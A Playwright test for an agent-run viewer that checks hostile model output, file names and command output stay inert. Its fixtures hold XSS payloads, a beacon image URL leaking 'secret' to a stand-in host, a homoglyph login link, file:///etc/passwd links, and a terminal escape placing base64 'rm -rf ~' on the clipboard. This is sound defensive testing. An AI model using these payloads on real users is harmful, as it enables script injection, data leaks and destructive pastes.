// What a model or a program writes to harm whoever reads it: it is shown, and it does nothing.

import type { Page } from "@playwright/test";

import { findSerious } from "./fixtures/axe.ts";
import { calls, edit, runCommand, say, spawn, startRun, submit, test, wait } from "./fixtures/desk.ts";
import { expect } from "./fixtures/workbench.ts";
import type { Desk } from "./fixtures/desk.ts";

const escape = "\u001b";
const hostileFile = "<img src=x onerror=alert(1)>.txt";

const words = [
  "# Done <script>alert(1)</script>",
  "<img src=x onerror=alert(2)> [run](javascript:alert(3)) [open](file:///etc/passwd) [it](ms-msdt:/id)",
  "![beacon](http://beacon.invalid/?q=secret) https://gіthub.com/login [docs](https://docs.invalid/a)",
  `${escape}]52;c;cm0gLXJmIH4=\u0007 safe\u202egnp.exe`,
].join("\n\n");

/** What a command prints: colours, a clipboard, a link with another target, a forged line. */
const printed = [
  "printf '\\033[31mred\\033[0m\\n'",
  "printf '\\033]52;c;%s\\007' \"$(printf 'rm -rf ~' | base64)\"",
  "printf '\\033]8;;file:///etc/passwd\\033\\\\ok\\033]8;;\\033\\\\\\n'",
  "printf 'FAIL\\033[1A\\033[2KPASS\\n'",
].join("; ");

function story() {
  return [
    {
      match: /hostile run/,
      turns: [
        calls(spawn("Read <img src=x onerror=alert(4)>", { role: "explorer" })),
        wait(["subagent-1"]),
        calls(spawn("Write the file", { role: "executor", paths: ["."] })),
        wait(["subagent-2"]),
        say(words),
      ],
    },
    { match: /Read <img/, turns: [submit(words)] },
    {
      match: /Write the file/,
      turns: [runCommand(printed), edit("notes.txt", ["safe", "<script>alert(5)</script>"]), submit("Written.")],
    },
  ];
}

/** Everything that would show that something ran, asked for the network, or was put on the clipboard. */
async function watch(page: Page, { served }: Desk): Promise<() => Promise<readonly string[]>> {
  const seen: string[] = [];
  const own = new URL(served.url).host;
  page.on("dialog", (dialog) => {
    seen.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on("request", (request) => {
    if (new URL(request.url()).host !== own) seen.push(`request ${request.url()}`);
  });
  page.on("pageerror", (error) => seen.push(`error ${error.message}`));
  await page.context().grantPermissions(["clipboard-read", "clipboard-write"]);
  await page.goto(served.url);
  await expect(page.getByRole("main")).toBeVisible();
  await page.evaluate(() => navigator.clipboard.writeText("mine"));
  return async () => {
    const clipboard = await page.evaluate(() => navigator.clipboard.readText());
    return clipboard === "mine" ? seen : [...seen, `clipboard ${clipboard}`];
  };
}

test("[G11] [G13] [G14] hostile words of a model, a file and a program are shown and do nothing", async ({
  page,
  openDesk,
}) => {
  const desk = await openDesk(story(), { "notes.txt": "safe\n", [hostileFile]: "x\n" });
  const harm = await watch(page, desk);
  await startRun(page, desk, "The hostile run");
  const transcript = page.getByRole("region", { name: "Transcript" });
  const card = (ordinal: number) => page.locator(`.node[data-agent="subagent-${ordinal}"]`);
  await expect(card(2)).toBeVisible({ timeout: 30_000 });
  // The command asks first; its line is shown as it is.
  await card(2).click();
  await page.getByRole("button", { name: /^Allow once/ }).click();

  await test.step("a node's title and a model's words stay text", async () => {
    await expect(card(1)).toContainText("<img src=x onerror=alert(4)>");
    await card(1).click();
    await page.getByRole("tab", { name: "Transcript" }).click();
    await expect(transcript).toContainText("<script>alert(1)</script>");
    await expect(transcript).toContainText("<img src=x onerror=alert(2)>");
    await expect(transcript).toContainText("⟨U+202E⟩gnp.exe");
    await expect(transcript.locator("img, script")).toHaveCount(0);
  });

  await test.step("only a web address with an honest host can be followed", async () => {
    const links = transcript.getByRole("link");
    await expect(links).toHaveCount(1);
    await expect(links).toHaveAttribute("href", "https://docs.invalid/a");
    await expect(transcript).toContainText("its host is really xn--gthub-n2e.com");
    await expect(transcript).toContainText("(file:///etc/passwd, not a web address)");
  });

  await test.step("of a program's output the colours stay", async () => {
    await card(2).click();
    const call = transcript.locator(".call", { hasText: "runCommand" });
    await expect(call).toContainText("exit 0", { timeout: 30_000 });
    await call.locator("summary").click();
    const output = call.getByRole("region", { name: "Output" });
    await expect(output.locator(".ansi-1")).toHaveText("red");
    await expect(output).toContainText("ok\nFAILPASS");
    await expect(output.getByRole("link")).toHaveCount(0);
  });

  await test.step("the search finds what is folded away, by keyboard alone", async () => {
    await transcript.focus();
    await page.keyboard.press("Control+f");
    await page.keyboard.type("FAILPASS".slice(0, 4));
    await expect(page.getByRole("search", { name: "In this transcript" })).toContainText(/1 of \d+ entr/);
    await page.keyboard.press("Escape");
    await expect(transcript).toBeFocused();
  });

  expect(await findSerious(page)).toEqual([]);
  expect(await harm()).toEqual([]);
});
